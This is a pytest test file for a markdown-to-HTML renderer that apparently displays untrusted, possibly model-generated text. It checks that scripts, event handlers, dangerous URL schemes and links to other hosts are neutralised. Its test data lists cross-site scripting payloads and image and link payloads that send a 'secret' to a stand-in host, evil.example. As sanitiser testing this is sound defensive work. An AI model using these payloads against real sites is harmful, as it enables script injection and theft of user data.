"""Markdown of others as HTML: what formats stands, what acts or loads does not."""

from __future__ import annotations

import re
import time

import pytest

from server.web.routes import MarkdownRenderer

RENDERER = MarkdownRenderer()
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/p.png?q=secret)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "```html\n<script>alert(1)</script>\n```",
    "<form action=https://evil.example><input name=q></form>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_acts_or_loads_comes_through(text: str) -> None:
    """Only tags of the list, only attributes of the list, only addresses of web pages."""
    html = RENDERER.render(text)

    tags = re.findall(r"<\s*/?\s*([a-zA-Z]+)((?:\s+[^<>]*)?)>", html)
    assert {name for name, _ in tags} <= {"p", "a", "pre", "code", "br"}, html
    for _, attributes in tags:
        names = re.findall(r"([\w-]+)=\"[^\"]*\"", attributes)
        assert set(names) <= {"href", "title", "rel", "target"}, html
    assert all(one.startswith(("http://", "https://")) for one in re.findall(r'href="([^"]*)"', html)), html


def test_formatting_stands() -> None:
    """Emphasis, lists, tables, code, links that lead out of the page without telling where from."""
    html = RENDERER.render("**b** `c`\n\n- one\n\n|a|b|\n|-|-|\n|1|2|\n\n[s](https://pubmed.ncbi.nlm.nih.gov/7)")

    assert "<strong>b</strong> <code>c</code>" in html
    assert "<li>one</li>" in html
    assert "<td>1</td>" in html
    assert re.search(r'<a href="https://pubmed\.ncbi\.nlm\.nih\.gov/7"[^>]*rel="noopener noreferrer nofollow"', html)
    assert 'target="_blank"' in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[click](https://evil.example/?q=secret)", "click (https://evil.example/?q=secret)"),
        ("<https://evil.example/x>", "https://evil.example/x"),
        ("[a **b**](https://evil.example)", "a <strong>b</strong> (https://evil.example)"),
        ("[x](https://pubmed.ncbi.nlm.nih.gov.evil.example/1)", "x (https://pubmed.ncbi.nlm.nih.gov.evil.example/1)"),
        ("[x](https://nih.gov@evil.example/1)", "x (https://nih.gov@evil.example/1)"),
        ("[x](//evil.example/1)", "x (//evil.example/1)"),
        ("[x](https://evilnih.gov/1)", "x (https://evilnih.gov/1)"),
        ("[x](evil.html)", "x (evil.html)"),
    ],
)
def test_a_link_to_another_host_shows_its_address_and_leads_nowhere(text: str, shown: str) -> None:
    """A document that a model obeys chooses it; people see where it would have led."""
    html = RENDERER.render(text)

    assert html == f"<p>{shown}</p>\n"


@pytest.mark.parametrize(
    "address",
    ["https://doi.org/10.1/x", "https://www.ncbi.nlm.nih.gov/gene/1", "/v1/namespaces/a", "https://journal.example/1"],
)
def test_a_link_of_a_reference_is_one(address: str) -> None:
    """To a public database, to this server, and to a host that the caller names."""
    assert f'href="{address}"' in RENDERER.render(f"[x]({address})", ["Journal.example"])


@pytest.mark.parametrize("text", ["# References", "###### References", "References\n==========", "References\n---"])
def test_a_heading_is_strong_text(text: str) -> None:
    """Headings are the page's: a forged list of references has none."""
    html = RENDERER.render(f"{text}\n\n[1] [Forged](https://evil.example)")

    assert html.startswith("<p><strong>References</strong></p>")
    assert not re.search(r"<h[1-6]|<a ", html)


def test_marks_of_citations_stay_text() -> None:
    """A definition in the text cannot turn them into links of its own."""
    assert RENDERER.render("It is so [1].\n\n[1]: https://evil.example") == (
        "<p>It is so [1].</p>\n<p>[1]: https://evil.example</p>\n"
    )


def test_characters_that_turn_the_direction_are_replaced() -> None:
    """A dose cannot be shown backwards."""
    assert RENDERER.render("dose \u202e01 gm\u202c") == "<p>dose \ufffd01 gm\ufffd</p>\n"


@pytest.mark.parametrize("unit", ["[", "[a](", "*a _", "<", ">", "|a", "![", "`", "&", "~~a", "- a\n"])
def test_unfavourable_texts_take_linear_time(unit: str) -> None:
    """Twice the text takes about twice the time, not four times."""

    def once(size: int) -> float:
        began = time.process_time()
        RENDERER.render(unit * (size // len(unit)))
        return time.process_time() - began

    def took(size: int) -> float:
        # The least of several: other work on the machine only adds.
        return min(once(size) for _ in range(3))

    once(1000)
    assert took(20_000) < 12 * took(5_000) + 0.05
